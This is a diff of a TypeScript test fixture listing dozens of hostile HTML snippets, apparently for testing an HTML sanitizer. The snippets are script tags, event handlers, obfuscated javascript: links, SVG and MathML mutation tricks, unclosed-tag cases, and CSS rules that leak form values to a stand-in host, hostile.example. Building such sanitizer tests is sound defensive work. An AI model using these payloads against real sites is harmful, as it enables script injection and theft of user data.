@@ -1,6 +1,5 @@
-/** The script in each piece of HTML: sets a global variable and opens a dialog. */
+/** The script that the HTML below tries to run. Tests detect the variable `canary` and the dialog. */
 const js = 'window.canary=1;alert(1)'
-/** The host that each piece of HTML tries to reach. */
 const host = 'https://hostile.example'
 
 /**
@@ -8,7 +7,6 @@ const host = 'https://hostile.example'
  * that all pieces can be joined into one text.
  */
 export const hostileHtml: Record<string, string> = {
-  // Script
   script: `<script>${js}</script>`,
   'script from elsewhere': `<script src="${host}/a.js"></script>`,
   'script module': `<script type="module">import '${host}/a.js'</script>`,
@@ -16,7 +14,6 @@ export const hostileHtml: Record<string, string> = {
   'script in capitals, with a slash': `<SCRIPT/x>${js}</SCRIPT>`,
   noscript: `<noscript><p title="</noscript><img src=x onerror=${js}>"></p></noscript>`,
 
-  // Event handlers
   'image that fails': `<img src="x" onerror="${js}">`,
   'handler after a slash': `<img/src/onerror=${js}>`,
   'handler after a line feed': `<img src=x\nonerror\n=\n"${js}">`,
@@ -28,7 +25,6 @@ export const hostileHtml: Record<string, string> = {
   marquee: `<marquee onstart="${js}">a</marquee>`,
   'video and audio': `<video autoplay src="x" onerror="${js}"></video><audio src="x" onerror="${js}"></audio>`,
 
-  // URLs
   'javascript link': `<a href="javascript:${js}">a</a>`,
   'javascript link in entities': `<a href="&#106;&#x61;vascript&colon;${js}">a</a>`,
   'javascript link with blanks': `<a href=" &#1; java&Tab;script&NewLine;:${js}">a</a>`,
@@ -42,7 +38,6 @@ export const hostileHtml: Record<string, string> = {
   'pinging link': `<a href="/en" ping="${host}/ping" download target="_blank" rel="opener">a</a>`,
   'image map': `<img usemap="#m"><map name="m"><area href="javascript:${js}" coords="0,0,9,9"></map>`,
 
-  // Other namespaces, and HTML that changes when it is parsed a second time
   'svg script': `<svg><script>${js}</script></svg>`,
   'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
   'svg animation': `<svg><a><animate attributeName="href" values="javascript:${js}"/><text>a</text></a></svg>`,
@@ -57,7 +52,6 @@ export const hostileHtml: Record<string, string> = {
   'text that looks like markup': `<textarea></textarea><img src=x onerror=${js}><xmp><p title="</xmp><img src=x onerror=${js}>"></p></xmp>`,
   'noembed and noframes': `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed><noframes><p title="</noframes><img src=x onerror=${js}>"></p></noframes>`,
 
-  // Styles
   'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
   'style that leaks form values': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
   'style attribute': `<p style="background:url(${host}/a.png)">a</p>`,
@@ -68,13 +62,11 @@ export const hostileHtml: Record<string, string> = {
   'overlay by popover': '<div popover id="p" open>a</div><dialog open>a</dialog>',
   stylesheet: `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b">`,
 
-  // Embedded documents
   iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
   'iframe with its own document': `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
   'object and embed': `<object data="javascript:${js}"></object><embed src="${host}/a.swf"><applet code="A"></applet>`,
   portal: `<portal src="${host}"></portal><frameset><frame src="${host}"></frameset>`,
 
-  // The page itself
   'base URL': `<base href="${host}" target="_blank">`,
   refresh: `<meta http-equiv="refresh" content="0;url=${host}">`,
   'policy and cookie': `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="robots" content="noindex">`,
@@ -95,22 +87,23 @@ export const hostileHtml: Record<string, string> = {
   'live region and role': '<p role="alert" aria-live="assertive" aria-modal="true" data-state="open">a</p>',
   'hidden from some': '<p hidden inert aria-hidden="true">a</p>',
 
-  // Size and characters
   'deep nesting': `${'<div>'.repeat(1000)}<img src=x onerror=${js}>${'</div>'.repeat(1000)}`,
   'many attributes': `<p ${Array.from({ length: 500 }, (_, n) => `onx${n}=1`).join(' ')} onclick="${js}">a</p>`,
   'null characters': `<img src=x on&#0;error=${js}><a href="java&#0;script:${js}">a</a>`,
   'characters that look alike': `\uff1cscript\uff1e${js}\uff1c/script\uff1e <img src=x \u017fonerror=${js}>`,
 }
 
-/** HTML that swallows everything after it. The pieces cannot be joined. */
+/**
+ * HTML whose last tag, attribute or comment is not closed, so that the parser includes the text after it in the piece.
+ */
 export const unclosedHtml: Record<string, string> = {
   plaintext: `<p>a</p><plaintext><img src=x onerror=${js}>`,
-  comment: `<p>a</p><!-- <img src=x onerror=${js}>`,
-  attribute: `<p>a</p><img src=x onerror=${js} alt="`,
-  textarea: `<p>a</p><textarea><img src=x onerror=${js}>`,
-  title: `<p>a</p><title><img src=x onerror=${js}>`,
-  script: `<p>a</p><script>${js}`,
-  style: `<p>a</p><style>@import '${host}/a.css';`,
-  tag: `<p>a</p><img src=x onerror=${js} `,
+  'unclosed comment': `<p>a</p><!-- <img src=x onerror=${js}>`,
+  'unclosed attribute': `<p>a</p><img src=x onerror=${js} alt="`,
+  'unclosed textarea': `<p>a</p><textarea><img src=x onerror=${js}>`,
+  'unclosed title': `<p>a</p><title><img src=x onerror=${js}>`,
+  'unclosed script': `<p>a</p><script>${js}`,
+  'unclosed style': `<p>a</p><style>@import '${host}/a.css';`,
+  'unclosed tag': `<p>a</p><img src=x onerror=${js} `,
   'form in form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}></style></mglyph></form>`,
 }
